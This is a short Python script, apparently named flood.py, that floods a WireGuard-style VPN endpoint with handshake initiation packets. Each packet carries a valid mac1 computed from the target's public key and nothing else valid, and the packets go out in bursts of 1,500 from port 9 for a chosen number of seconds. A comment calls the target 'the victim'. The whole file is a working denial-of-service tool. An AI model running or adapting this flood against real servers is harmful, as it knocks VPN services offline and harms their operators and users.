"""flood.py ADDRESS PORT PUBLIC-KEY SECONDS: initiations with a valid mac1 and nothing else valid, in bursts, from port 9."""

import base64
import hashlib
import os
import socket
import sys
import time

BURST, PAUSE = 1500, 0.25


def main(address, port, public_key, seconds):
    key = hashlib.blake2s(b"mac1----" + base64.b64decode(public_key)).digest()
    body = b"\1\0\0\0" + os.urandom(112)
    message = body + hashlib.blake2s(body, key=key, digest_size=16).digest() + bytes(16)
    with socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.bind(("", 9))
        sender.setblocking(False)
        end = time.monotonic() + float(seconds)
        while time.monotonic() < end:
            for _ in range(BURST):
                try:
                    sender.sendto(message, (address, int(port)))
                except OSError:
                    break  # full: the burst is as long as the way to the victim takes
            time.sleep(PAUSE)


if __name__ == "__main__":
    main(*sys.argv[1:])
